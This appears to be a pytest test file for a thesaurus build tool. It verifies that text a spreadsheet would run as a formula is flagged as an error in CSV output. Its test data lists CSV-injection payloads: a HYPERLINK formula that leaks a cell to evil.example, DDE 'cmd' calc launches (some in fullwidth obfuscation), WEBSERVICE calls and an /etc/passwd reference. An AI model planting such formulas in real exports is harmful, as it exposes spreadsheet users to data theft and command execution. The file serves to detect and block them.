"""A text that a spreadsheet runs never reaches a CSV unseen: it is an error, unless the configuration allows the text."""

import csv
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

Run = Callable[..., Any]

SOURCE, METADATA = "taxonomy/themes/erzeugung.yaml", "taxonomy/taxonomy.yaml"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Strom")'
FORMULAS = [
    *("=1+1", "@SUM(A1)", " =1+1", "'=1+1", '"=1+1', "＝1+1", "＠SUM(A1)", "\t=1", "\n\r=1", "+cmd|' /C calc'!A0"),
    *(
        "-2+3+cmd|' /C calc'!A0",
        "－ｃｍｄ｜＇ /C calc＇！A0",
        "-1+-cmd|'x'!A0",
        '-HYPERLINK ("http://x/?"&A1)',
        "-1+TODAY()",
    ),
    *('- see WEBSERVICE("http://x")', "-[x.xlsx]S!A1", "- 'Sheet 2'!A1", "-'file:///etc/passwd'#$Sheet1.A1"),
]
PLAIN = ["-5 °C", "-5–7 °C", "+49 30 1234567", "- a point!", "– a dash", "E = mc²", "a@b.c", "=", "-ing", "+-", "a1"]


def findings(run: Run, root: Path) -> list[dict[str, Any]]:
    result = run("check", "--select", "spreadsheet-formula", "--format", "json", cwd=root)
    return list(json.loads(result.out)["findings"])


def write(root: Path, path: str, old: str, new: str) -> None:
    text = (root / path).read_text(encoding="utf-8")
    assert old in text
    (root / path).write_text(text.replace(old, new, 1), encoding="utf-8")


def test_formulas_are_errors_and_plain_texts_are_not(thesaurus: Path, run: Run) -> None:
    notes = json.dumps(PLAIN, ensure_ascii=False)
    write(thesaurus, SOURCE, "    label: Strom\n", f"    label: Strom\n    notes: {notes}\n")
    assert findings(run, thesaurus) == []
    write(thesaurus, SOURCE, notes, json.dumps(FORMULAS, ensure_ascii=False))
    assert len(findings(run, thesaurus)) == len(FORMULAS)


PLACES = {
    "title": (METADATA, "heading: Kleiner Thesaurus der Energie", "heading: '=A1'"),
    "publisher": (METADATA, "full_name: Musterverlag", "full_name: '=A1'"),
    "definition": (SOURCE, "definition: Bewegte elektrische Ladung.", "definition: '=A1'"),
    "synonym": (SOURCE, "- Solarstrom", "- '=A1'"),
    "translation": (SOURCE, "label: Photovoltaics", "label: '=A1'"),
    "list that is a formula in a diff": (SOURCE, "- Solarstrom", "- '- cmd'\n      - x!A0"),
    "template of the credit line": (METADATA, "credit_template: ", "credit_template: '={title}' # "),
}


@pytest.mark.parametrize("place", PLACES)
def test_every_text_of_a_cell_is_checked(thesaurus: Path, run: Run, place: str) -> None:
    write(thesaurus, *PLACES[place])
    assert [finding["path"] for finding in findings(run, thesaurus)] == [PLACES[place][0]]
    assert run("build", cwd=thesaurus).code == 1
    assert not (thesaurus / "_build").exists()


def test_the_configuration_alone_allows_a_text(thesaurus: Path, run: Run) -> None:
    comment = "  # taxokit: ignore=spreadsheet-formula"
    write(thesaurus, SOURCE, "    label: Strom\n", f"    label: '{FORMULA}'{comment}\n")
    assert "no comment can ignore spreadsheet-formula [unused-ignore]" in run("check", cwd=thesaurus).out
    with (thesaurus / "taxokit.toml").open("a", encoding="utf-8") as file:
        file.write(f"\n[rules.spreadsheet-formula]\nallowed = [{json.dumps(FORMULA)}]\n")
    assert findings(run, thesaurus) == []
    assert run("build", "--only", "csv", cwd=thesaurus).code == 0
    with (thesaurus / "_build/csv/terms.csv").open(encoding="utf-8", newline="") as table:
        assert FORMULA in {row["label"] for row in csv.DictReader(table)}
